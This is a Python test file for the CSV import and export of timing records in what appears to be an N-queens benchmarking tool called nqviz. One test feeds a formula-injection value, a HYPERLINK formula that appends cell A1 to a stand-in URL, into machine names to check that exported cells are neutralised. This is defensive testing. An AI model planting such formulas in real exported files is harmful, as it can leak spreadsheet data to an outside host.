import csv
import io
import os
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nqviz.common.machine import Machine
from nqviz.measuring.timing import Timing
from nqviz.model.published import known
from nqviz.solvers.registry import SOLVERS
from nqviz.store.timing_record import Origin, TimingRecord
from nqviz.store.timing_store import Imported, TimingStore
from nqviz.store.timings_csv import read, read_file, write

LINUX = Machine("AMD EPYC, 7B13", 2, 4, 8_000_000_000, "Linux", (("nqviz", "0.1.0"), ("n b", "2")))
OTHER = Machine("Apple M2", 8, 8, 16_000_000_000, "macOS", ())
DATE = datetime(2026, 11, 3, 14, 5, 6, 7, UTC)
ORIGIN = Origin(LINUX, "one")
STORED = [
    TimingRecord(0, DATE, Timing("bitmask", 8, 1, False, (0.1, 0.25), 92), ORIGIN),
    TimingRecord(0, DATE, Timing("quarters", 9, 2, True, (1e-9,), 352), Origin(OTHER, "two")),
    TimingRecord(0, DATE, Timing("wirth-1", 9, 1, False, (5.0,), None, True), Origin(OTHER, "two")),
]
KEYS = [solver.key for solver in SOLVERS]
TEXT = st.text(st.characters(exclude_categories=["C", "Z"]), max_size=12)


def written(timings: list[TimingRecord]) -> str:
    file = io.StringIO(newline="")
    write(timings, file)
    return file.getvalue()


@st.composite
def record(draw: st.DrawFn) -> TimingRecord:
    n = draw(st.integers(1, 30))
    count = known(n)
    beyond = draw(st.booleans()) or count is None
    seconds = draw(st.lists(st.floats(0, 1e12), min_size=1, max_size=4))
    whole = st.integers(0, 10**18 - 1)
    versions = st.tuples(TEXT.filter(lambda text: text and ";" not in text), st.just("1.2"))
    return TimingRecord(
        0,
        draw(st.datetimes(timezones=st.just(UTC))),
        Timing(
            draw(st.sampled_from([*KEYS, "/home/anna/mine.py", "C:\\=own, new\\mine.py"])),
            n,
            draw(st.integers(1, 99)),
            draw(st.booleans()),
            tuple(seconds),
            None if beyond or count is None else count.solutions,
            beyond,
        ),
        Origin(
            Machine(
                draw(TEXT),
                draw(whole),
                draw(whole),
                draw(whole),
                draw(TEXT),
                tuple(draw(st.lists(versions, max_size=3))),
            ),
            draw(TEXT.filter(bool)),
        ),
    )


@pytest.mark.parametrize(
    "names", [{"system": ',"0'}, {"processor": "AMD\r\nalgorithm", "system": "a\nb"}]
)
def test_quotes_and_ends_of_lines_in_the_name_of_a_machine_do_no_harm(
    names: dict[str, str],
) -> None:
    timings = [replace(STORED[0], origin=Origin(replace(LINUX, **names), "one"))]
    assert read(io.StringIO(written(timings), newline=""), "file") == timings


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_a_name_that_is_a_formula_is_none_in_a_spreadsheet(sign: str) -> None:
    name = f'{sign}HYPERLINK("http://a.b?"&A1),{sign}1;{sign}2'
    machine = replace(LINUX, processor=name, system=name)
    timings = [TimingRecord(0, DATE, STORED[0].timing, Origin(machine, name))]
    text = written(timings)
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not any(cell.lstrip().startswith(tuple("=+-@＝")) for cell in row)
    assert read(io.StringIO(text, newline=""), "file") == timings


@given(st.lists(record(), max_size=5))
def test_what_is_written_is_read_back(timings: list[TimingRecord]) -> None:
    text = written(timings)
    assert read(io.StringIO(text, newline=""), "file") == timings
    # An editor changes the ends of lines.
    assert read(io.StringIO(text.replace("\r\n", "\n")), "file") == timings


def test_the_lines_above_the_table_name_each_machine_and_its_versions() -> None:
    lines = written(STORED).splitlines()
    assert [line[:1] for line in lines] == ["#", "#", "a", "b", "q", "w"]
    assert "AMD EPYC, 7B13, 2 cores, 4 threads, 8 GB, Linux; nqviz 0.1.0" in lines[0]
    assert "Apple M2" in lines[1]


def test_a_file_may_say_its_origin_once_above_the_table() -> None:
    """The origin stands above the table once, and the table has fewer columns."""
    text = (
        "# date: 2026-11-03T15:05:06+01:00\r\n# processor: AMD EPYC\r\n# cores: 2\r\n"
        "# threads: 4\r\n# memory: 8000000000\r\n# system: Linux\r\n# nqviz: 0.1.0\r\n"
        "algorithm,n,threads,mirror,seconds_1,seconds_2,median,solutions,beyond_limit\r\n"
        "bitmask,8,1,false,0.1,0.2,0.15,92,false\r\n"
        "bitmask,9,1,false,10.0,,10.0,,true\r\n"
    )
    first, second = read(io.StringIO(text), "file")
    assert first.timing == Timing("bitmask", 8, 1, False, (0.1, 0.2), 92)
    assert second.timing == Timing("bitmask", 9, 1, False, (10.0,), None, True)
    assert first.measured == datetime(2026, 11, 3, 14, 5, 6, tzinfo=UTC)
    assert first.origin == second.origin
    machine = Machine("AMD EPYC", 2, 4, 8_000_000_000, "Linux", (("nqviz", "0.1.0"),))
    assert first.origin.machine == machine


def test_a_spreadsheet_may_have_saved_it() -> None:
    text = written(STORED).replace("true", "TRUE").replace("false", "FALSE")
    commas = "\n".join(line + ",,," if line.startswith("#") else line for line in text.splitlines())
    assert read(io.StringIO(commas + "\n\n"), "file") == STORED


WHOLE = written(STORED)


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("", "There is no table of timings in file"),
        ("# only: this\n", "There is no table of timings in file"),
        ("name,age\nAnna,7\n", "Line 1 of file: a table of timings has the columns"),
        ("algorithm;n;seconds_1\nbitmask;8;0.1\n", "Line 1 of file: a table of timings"),
        (WHOLE.replace("bitmask", "bogosort"), "Line 4 of file: .*bogosort"),
        (WHOLE.replace("0.25", "soon"), "Line 4 of file: 'soon' is no time in seconds"),
        (WHOLE.replace("s,9,", f"s,{'9' * 5000},"), "Line 5 of file: '9{59}… is no whole number"),
        (WHOLE.replace("8000000000", "9" * 19), "Line 4 of file: '9+' is no whole number"),
        (WHOLE.replace("bitmask", "b" * 5000), "Line 4 of file: There is no algorithm 'b{40}'"),
        (WHOLE.replace("true", "maybe"), "Line 5 of file: 'maybe' should be true or false"),
        (WHOLE.replace("beyond_limit", "date"), "Line 1|Line 6"),
        (WHOLE[:-30], "Line 6 of file: There should be 18 cells, not"),
        (WHOLE + '"' + "x" * 200_000, "Line 7 of file is no line of a CSV file"),
        (
            "algorithm,n,seconds_1,solutions\nbitmask,8,1,92\n",
            "Line 2 of file: '' is no date and time",
        ),
        ("algorithm,n,seconds_1,solutions\nbitmask,8,1,\n", "Line 2 of file: What took"),
    ],
)
def test_a_foreign_or_damaged_file_is_one_sentence(text: str, sentence: str) -> None:
    with pytest.raises(ValueError, match=sentence) as raised:
        read(io.StringIO(text, newline=""), "file")
    assert "\n" not in str(raised.value)


@given(st.data())
def test_any_file_is_read_or_refused_in_a_sentence(data: st.DataObject) -> None:
    text = list(WHOLE)
    for place in data.draw(st.lists(st.integers(0, len(text) - 1), max_size=20)):
        text[place] = data.draw(st.sampled_from('",#\n\r\0x9-. '))
    try:
        read(io.StringIO("".join(text), newline=""), "file")
    except ValueError as error:
        assert str(error)  # noqa: PT017


def test_no_text_at_all(tmp_path: Path) -> None:
    path = tmp_path / "file.csv"
    path.write_bytes(b"\xff\xfe\x00\x80")
    with pytest.raises(ValueError, match=r"file\.csv is no CSV file"):
        read_file(path)
    with pytest.raises(ValueError, match=r"can't be read"):
        read_file(tmp_path / "missing.csv")


def test_what_is_no_file_or_endless_is_not_read(tmp_path: Path) -> None:
    (tmp_path / "large.csv").write_bytes(b"\n" * ((1 << 25) + 1))
    with pytest.raises(ValueError, match=r"large\.csv is too large to be a table of timings"):
        read_file(tmp_path / "large.csv")
    with pytest.raises(ValueError, match="is not a file"):
        read_file(tmp_path)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no named pipes here")
def test_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.csv")
    with pytest.raises(ValueError, match=r"pipe\.csv is not a file"):
        read_file(tmp_path / "pipe.csv")


def test_any_number_that_is_read_can_be_stored() -> None:
    store = TimingStore.in_memory()
    largest = TimingRecord(0, DATE, Timing("bitmask", 10**18 - 1, 1, False, (1.0,), 10**99), ORIGIN)
    (timing,) = read(io.StringIO(written([largest]), newline=""), "file")
    assert timing == largest
    record = store.add(timing.timing, timing.origin)
    assert store.timings() == [record]
    store.close()


def test_all_or_nothing_and_nothing_twice(tmp_path: Path) -> None:
    path = tmp_path / "file.csv"
    store = TimingStore.in_memory()
    path.write_text("\ufeff" + WHOLE.replace("wirth-1", "bogosort"), encoding="utf-8", newline="")
    with pytest.raises(ValueError, match="Line 6"):
        store.import_csv(path)
    assert store.timings() == []
    path.write_text("\ufeff" + WHOLE, encoding="utf-8", newline="")
    assert store.import_csv(path) == Imported(3, 0)
    assert store.import_csv(path) == Imported(0, 3)
    store.delete([store.timings()[1].id])
    assert store.import_csv(path) == Imported(1, 2)
    assert len(store.timings()) == 3
    store.close()


def test_timings_of_programs_are_read_and_not_imported(tmp_path: Path) -> None:
    path = tmp_path / "file.csv"
    path.write_text(WHOLE.replace("quarters", "/home/anna/mine.py"), encoding="utf-8", newline="")
    assert [each.timing.key for each in read_file(path)] == [
        "bitmask",
        "/home/anna/mine.py",
        "wirth-1",
    ]
    store = TimingStore.in_memory()
    assert store.import_csv(path) == Imported(2, 0, of_programs=1)
    assert [each.timing.key for each in store.timings()] == ["bitmask", "wirth-1"]
    store.close()
